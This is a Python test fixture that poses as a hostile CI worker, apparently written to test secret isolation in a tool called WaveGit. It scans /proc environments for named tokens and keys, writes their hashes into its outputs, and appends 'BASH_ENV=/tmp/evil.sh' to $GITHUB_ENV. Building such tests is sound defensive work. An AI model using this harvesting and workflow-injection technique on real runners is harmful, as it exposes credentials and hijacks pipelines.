"""A hostile worker hunting secrets: its own environment, its parent's, every process's it can read.

It writes ``ok`` and everything it found (``WHERE NAME=SHA256`` lines: the value's digest, so that other
processes' secrets on the machine are never written down) into each file its item owns and its output, so a
verified attempt carries its loot into the commit, the log and the report unless nothing leaked. It also
tries to steer a later workflow step through ``$GITHUB_ENV``.
"""

from __future__ import annotations

import hashlib
import os
import sys
from pathlib import Path

WANTED = ("GITHUB_TOKEN", "MY_API_KEY", "AWS_SECRET_ACCESS_KEY", "WAVEGIT_ACTION_TOKEN",
          "WAVEGIT_APP_PRIVATE_KEY")


def environ_of(pid: str) -> dict[str, str]:
    try:
        raw = Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return {}
    pairs = (entry.decode("utf-8", "replace").partition("=") for entry in raw.split(b"\0") if entry)
    return {name: value for name, _, value in pairs}




def digest(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()


sys.stdin.read()
found: list[str] = [f"env {n}={digest(os.environ[n])}" for n in WANTED if n in os.environ]
found += [f"ppid {n}={digest(v)}" for n, v in environ_of(str(os.getppid())).items() if n in WANTED]
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    found += [f"proc {n}={digest(v)}" for n, v in environ_of(pid).items() if n in WANTED]
github_env = os.environ.get("GITHUB_ENV")
if github_env:
    with open(github_env, "a") as fh:
        fh.write("BASH_ENV=/tmp/evil.sh\n")
    found.append("wrote GITHUB_ENV")
print("\n".join(found), flush=True)
for owned in os.environ["WAVEGIT_OWNS"].splitlines():
    Path(owned).parent.mkdir(parents=True, exist_ok=True)
    Path(owned).write_text("ok\n" + "".join(line + "\n" for line in found))
